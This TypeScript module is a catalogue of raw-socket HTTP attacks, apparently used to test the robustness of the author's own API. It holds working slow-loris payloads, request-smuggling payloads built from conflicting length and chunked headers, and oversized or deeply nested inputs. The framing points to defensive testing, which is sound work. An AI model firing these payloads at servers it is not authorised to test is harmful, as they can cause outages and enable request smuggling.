import { type Conversation, sendForever, sendSlowly, type Target } from './raw-socket.ts'

export interface Attack {
  name: string
  /** Concurrent connections. */
  connections: number
  conversation: (target: Target) => Pick<Conversation, 'send'>
  /** Of so many responses none is read before the other slow attacks are over. */
  unread?: number
}

const path = '/service/api/v1/editions'

const get = (target: Target, headers = ''): string =>
  `GET ${path} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${target.token}\r\n${headers}\r\n`

const post = (headers: readonly string[], body = ''): string =>
  [`POST ${path} HTTP/1.1`, 'host: x', 'content-type: application/json', ...headers, '', body].join('\r\n')

const authorization = ({ token }: Target): string => `authorization: Bearer ${token}`

const sendOnce = (name: string, text: (target: Target) => string, connections = 1): Attack => ({
  name,
  connections,
  conversation: (target) => ({ send: (socket) => void socket.write(text(target)) }),
})

const DRIP_MS = 200
const UNREAD = 300

export const slowAttacks: readonly Attack[] = [
  {
    name: 'headers that never end',
    connections: 50,
    conversation: () => ({
      send(socket, isOpen) {
        socket.write('GET / HTTP/1.1\r\nhost: x\r\n')
        sendSlowly(socket, 'x-slow: 1\r\n', DRIP_MS, isOpen)
      },
    }),
  },
  {
    name: 'a body that never ends, a byte at a time',
    connections: 50,
    conversation: (target) => ({
      send(socket, isOpen) {
        socket.write(post([authorization(target), 'content-length: 100000']))
        sendSlowly(socket, ' ', DRIP_MS, isOpen)
      },
    }),
  },
  {
    name: 'chunks that never end, a byte at a time',
    connections: 50,
    conversation: (target) => ({
      send(socket, isOpen) {
        socket.write(post([authorization(target), 'transfer-encoding: chunked']))
        sendSlowly(socket, '1\r\n \r\n', DRIP_MS, isOpen)
      },
    }),
  },
  { name: 'sockets that say nothing', connections: 1000, conversation: () => ({ send() {} }) },
  sendOnce('half of a request line', () => 'GE', 50),
  sendOnce('headers without their end', () => 'GET / HTTP/1.1\r\nhost: x\r\n', 50),
  sendOnce('connections kept after a request', get, 100),
  {
    name: 'answers that nobody reads',
    connections: 5,
    unread: UNREAD,
    conversation: () => ({
      send: (socket) => void socket.write('GET /openapi.json HTTP/1.1\r\nhost: x\r\n\r\n'.repeat(UNREAD)),
    }),
  },
]

const EMPTY_CHUNKS = '0\r\n\r\n'
const SMUGGLED = `GET ${path} HTTP/1.1\r\nhost: smuggled\r\n\r\n`

/** Request smuggling: the end of these requests is ambiguous, and a proxy in front could see other requests than we do. */
export const smugglingAttacks: readonly Attack[] = [
  sendOnce('a length and chunks', (t) =>
    post([authorization(t), 'content-length: 6', 'transfer-encoding: chunked'], EMPTY_CHUNKS + SMUGGLED),
  ),
  sendOnce('chunks and a length', (t) =>
    post([authorization(t), 'transfer-encoding: chunked', 'content-length: 4'], EMPTY_CHUNKS + SMUGGLED),
  ),
  sendOnce('two lengths', (t) => post([authorization(t), 'content-length: 2', 'content-length: 50'], `{}${SMUGGLED}`)),
  sendOnce('two lengths in one', (t) => post([authorization(t), 'content-length: 2, 50'], `{}${SMUGGLED}`)),
  sendOnce('a length with a sign', (t) => post([authorization(t), 'content-length: +2'], `{}${SMUGGLED}`)),
  sendOnce('a length below nothing', (t) => post([authorization(t), 'content-length: -1'], `{}${SMUGGLED}`)),
  sendOnce('a length in hexadecimal', (t) => post([authorization(t), 'content-length: 0x2'], `{}${SMUGGLED}`)),
  sendOnce('a length past any number', (t) =>
    post([authorization(t), `content-length: ${'9'.repeat(30)}`], `{}${SMUGGLED}`),
  ),
  sendOnce('chunked, then not', (t) =>
    post([authorization(t), 'transfer-encoding: chunked, identity'], EMPTY_CHUNKS + SMUGGLED),
  ),
  sendOnce('an unknown encoding', (t) =>
    post([authorization(t), 'transfer-encoding: xchunked'], EMPTY_CHUNKS + SMUGGLED),
  ),
  sendOnce('a blank before the colon', (t) =>
    post([authorization(t), 'transfer-encoding : chunked'], EMPTY_CHUNKS + SMUGGLED),
  ),
  sendOnce('a folded header', (t) =>
    post([authorization(t), 'transfer-encoding:\r\n chunked'], EMPTY_CHUNKS + SMUGGLED),
  ),
  sendOnce('two encodings', (t) =>
    post([authorization(t), 'transfer-encoding: chunked', 'transfer-encoding: x'], EMPTY_CHUNKS + SMUGGLED),
  ),
  sendOnce('a chunk of a size that is none', (t) =>
    post([authorization(t), 'transfer-encoding: chunked'], `-1\r\n${SMUGGLED}`),
  ),
  sendOnce('a chunk past any number', (t) =>
    post([authorization(t), 'transfer-encoding: chunked'], `${'f'.repeat(20)}\r\n${SMUGGLED}`),
  ),
  sendOnce('a chunk that is longer than it says', (t) =>
    post([authorization(t), 'transfer-encoding: chunked'], `1\r\n{}\r\n${SMUGGLED}`),
  ),
  sendOnce(
    'a line that ends in LF alone',
    (t) => `POST ${path} HTTP/1.1\nhost: x\n${authorization(t)}\ncontent-length: 2\n\n{}${SMUGGLED}`,
  ),
  sendOnce('CR inside a header', (t) => get(t, 'x-odd: a\rtransfer-encoding: chunked\r\n')),
  sendOnce('U+0000 inside a header', (t) => get(t, 'x-odd: a\0b\r\n')),
  sendOnce('no host', (t) => `GET ${path} HTTP/1.1\r\n${authorization(t)}\r\n\r\n`),
  sendOnce('HTTP/2 without having agreed', () => 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
  sendOnce('HTTP/0.9', () => `GET ${path}\r\n\r\n`),
  sendOnce('TLS', () => '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03'),
]

const filler = (bytes: number) => 'x'.repeat(bytes)

const sendEndlessly = (name: string, headers: (target: Target) => string[], chunk: string): Attack => ({
  name,
  connections: 4,
  conversation: (target) => ({
    async send(socket, isOpen) {
      socket.write(post(headers(target)))
      await sendForever(socket, chunk, isOpen)
    },
  }),
})

const postBody = (target: Target, text: string): string =>
  post([authorization(target), `content-length: ${Buffer.byteLength(text)}`], text)

const chunk = `10000\r\n${filler(0x10000)}\r\n`

export const oversizedAttacks: readonly Attack[] = [
  sendOnce('an address of 100 KB', () => `GET /${filler(100_000)} HTTP/1.1\r\nhost: x\r\n\r\n`),
  sendOnce('a header of 100 KB', (t) => get(t, `x-large: ${filler(100_000)}\r\n`)),
  sendOnce('10,000 headers', (t) => get(t, 'x-many: 1\r\n'.repeat(10_000))),
  sendOnce('a body of 2 MiB', (t) => postBody(t, `{"team_name":"${filler(2 * 1_048_576)}"}`)),
  sendEndlessly('endless chunks', (t) => [authorization(t), 'transfer-encoding: chunked'], chunk),
  sendEndlessly('endless chunks of a stranger', () => ['transfer-encoding: chunked'], chunk),
  sendEndlessly('a body of a petabyte', (t) => [authorization(t), 'content-length: 1000000000000000'], filler(65_536)),
  sendEndlessly('a body of a petabyte of a stranger', () => ['content-length: 1000000000000000'], filler(65_536)),
  sendEndlessly(
    'a chunk extension without end',
    (t) => [authorization(t), 'transfer-encoding: chunked'],
    `1;${filler(65_536)}`,
  ),
  sendEndlessly(
    'trailers without end',
    (t) => [authorization(t), 'transfer-encoding: chunked'],
    `0\r\n${'x-trailer: 1\r\n'.repeat(5000)}`,
  ),
  sendOnce('500,000 arrays, one in the other', (t) =>
    postBody(t, `{"team_name":${'['.repeat(500_000)}${']'.repeat(500_000)}}`),
  ),
  sendOnce('100,000 objects, one in the other', (t) =>
    postBody(t, `${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`),
  ),
  sendOnce('100,000 keys', (t) =>
    postBody(t, `{"team_name":7,${Array.from({ length: 80_000 }, (_, n) => `"k${n}":1`).join(',')}}`),
  ),
  sendOnce('a number of a megabyte', (t) => postBody(t, `{"team_name":${'9'.repeat(1_000_000)}}`)),
  sendOnce('escapes of a megabyte', (t) => postBody(t, `{"team_name":"${'\\u0041'.repeat(160_000)}"}`)),
  sendOnce('blanks of a megabyte', (t) => postBody(t, `{"team_name"${' '.repeat(1_000_000)}:1}`)),
  sendOnce('compressed', (t) =>
    post([authorization(t), 'content-encoding: gzip', 'content-length: 3'], '\x1f\x8b\x08'),
  ),
]
